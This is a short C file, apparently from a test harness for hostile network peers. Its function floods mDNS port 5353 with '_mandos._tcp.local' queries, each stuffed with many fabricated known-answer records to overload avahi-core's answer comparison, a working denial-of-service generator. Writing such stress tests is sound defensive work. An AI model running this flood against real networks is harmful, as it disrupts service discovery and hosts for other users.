#include "mdns.h"

#include <stdio.h>
#include <unistd.h>

// Questions that are for us, each with as many known answers as there is room for: they stay in
// avahi-core's list for 0.7 s, and each is compared with all of them.
void hostile_mdns_known_answers(struct hostile *self) {
    int socket = mdns_socket(self, 5353);
    struct mdns_packet packet;
    for (unsigned i = 0; !mdns_is_late(self); i++) {
        unsigned answers = 0;
        mdns_begin(&packet, 0, (const unsigned[]){1, 0, 0, 0});
        mdns_question(&packet, "_mandos._tcp.local", mdns_ptr, 1);
        while (packet.size + 40 < 1400) {
            char name[32];
            snprintf(name, sizeof name, "%05x%02x.local", i & 0xfffff, answers++ & 0xff);
            mdns_record(&packet, name, mdns_txt, "\1x", 2);
        }
        packet.bytes[7] = (unsigned char)answers;
        mdns_send(self, socket, &packet);
        usleep(500);
    }
    close(socket);
}
